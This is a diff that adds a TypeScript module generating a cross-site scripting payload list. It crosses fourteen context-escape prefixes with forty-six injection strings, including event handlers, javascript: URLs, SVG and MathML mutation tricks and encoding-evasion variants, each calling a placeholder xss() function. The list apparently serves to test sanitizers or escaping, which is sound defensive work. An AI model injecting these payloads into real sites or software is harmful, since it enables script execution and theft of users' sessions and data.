@@ -1,0 +1,73 @@
+/** Ways out of the place where a text stands: content, attributes, comments, raw text elements, scripts, JSON and the RSC stream. */
+const ways = [
+  "",
+  '">',
+  "'>",
+  "-->",
+  "]]>",
+  "</title>",
+  "</textarea>",
+  "</script>",
+  "</style>",
+  "</noscript><p>",
+  '\\">',
+  "\\u003c/script>",
+  '"}]]\n1:',
+  "\u0000",
+];
+
+/** What would run. Every one calls `xss()`. */
+const runs = [
+  "<script>xss()</script>",
+  "<ScRiPt>xss()</sCrIpT>",
+  "<script/x>xss()</script>",
+  "<script src=data:text/javascript,xss()></script>",
+  "<img src=x onerror=xss()>",
+  "<img src=x onerror\u000a=\u000axss()>",
+  "<img/src=x/onerror=xss()>",
+  "<image src=x onerror=xss()>",
+  "<svg onload=xss()>",
+  "<svg><script>xss()</script></svg>",
+  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
+  "<svg><a xlink:href=javascript:xss()><text x=9 y=9>x</text></a></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=xss()></style></mglyph></table></mtext></math>",
+  "<math href=javascript:xss()>x</math>",
+  "<iframe src=javascript:xss()></iframe>",
+  "<iframe srcdoc='<script>parent.xss()</script>'></iframe>",
+  "<object data=javascript:xss()></object>",
+  "<embed src=javascript:xss()>",
+  "<body onload=xss()>",
+  "<details open ontoggle=xss()>x</details>",
+  "<video><source onerror=xss()></video>",
+  "<audio src=x onerror=xss()>",
+  "<input autofocus onfocus=xss()>",
+  "<select autofocus onfocus=xss()></select>",
+  "<marquee onstart=xss()>x</marquee>",
+  "<p style=animation:x onanimationstart=xss()>x</p>",
+  "<style>@import 'javascript:xss()';</style>",
+  "<link rel=stylesheet href=javascript:xss()>",
+  "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
+  "<base href=javascript:xss()//>",
+  "<form action=javascript:xss()><input type=submit></form>",
+  "<button formaction=javascript:xss()>x</button>",
+  "<a href=javascript:xss()>x</a>",
+  "<a href='java\tscript:xss()'>x</a>",
+  "<a href=&#106;avascript:xss()>x</a>",
+  "<a href=data:text/html,<script>opener.xss()</script>>x</a>",
+  "<template><img src=x onerror=xss()></template>",
+  "<noscript><img src=x onerror=xss()></noscript>",
+  "<xmp><img src=x onerror=xss()></xmp>",
+  "<plaintext onmouseover=xss()>",
+  " onmouseover=xss() autofocus onfocus=xss() x=",
+  "javascript:xss()",
+  ");xss();//",
+  "${xss()}",
+  "{{constructor.constructor('xss()')()}}",
+  "＜script＞xss()＜/script＞",
+];
+
+/** Each run by each way out: more than 600 different texts. */
+export const payloads: readonly string[] = ways.flatMap((way) => runs.map((run) => way + run));
+
+/** Payloads that share their way out stand together. */
+export const partSize = runs.length;
